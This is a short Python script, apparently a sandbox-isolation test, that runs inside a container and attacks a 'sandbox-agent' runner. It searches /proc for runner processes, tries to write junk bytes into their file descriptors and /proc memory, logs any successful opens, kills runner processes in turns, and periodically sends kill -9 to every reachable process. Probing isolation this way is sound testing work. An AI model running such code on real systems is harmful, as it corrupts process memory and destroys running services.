"""Runs in the container at the tools' uid: looks for a way into the runner all the time, and kills in turns."""

import contextlib
import os
import sys
import time


def runners():
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as file:
                if file.read().startswith(b"/usr/lib/sandbox-agent/python3"):
                    yield int(pid)
        except OSError:
            pass


def attack(pid):
    for what in ("fd/0", "fd/1", "fd/2", "fd/3", "fd/4", "mem"):
        try:
            fd = os.open(f"/proc/{pid}/{what}", os.O_WRONLY | os.O_NONBLOCK)
        except OSError:
            continue
        with open(sys.argv[1], "a") as file:
            file.write(f"{pid} {what}\n")
        os.write(fd, b"\xff" * 4096)


def kill(pid):
    with contextlib.suppress(OSError):
        os.kill(pid, 9)


turn = int(sys.argv[2])
while True:
    until = time.monotonic() + 0.05 + 0.07 * (turn % 7)
    while time.monotonic() < until:
        for pid in runners():
            attack(pid)
        time.sleep(0.002)
    turn += 1
    if turn % 3 == 0:
        os.kill(-1, 9)
    else:
        # One of the runner's processes only: the first is the runner itself, the last the youngest keeper of a call.
        found = sorted(runners())
        for pid in found[:1] if turn % 3 == 1 else found[-1:]:
            kill(pid)
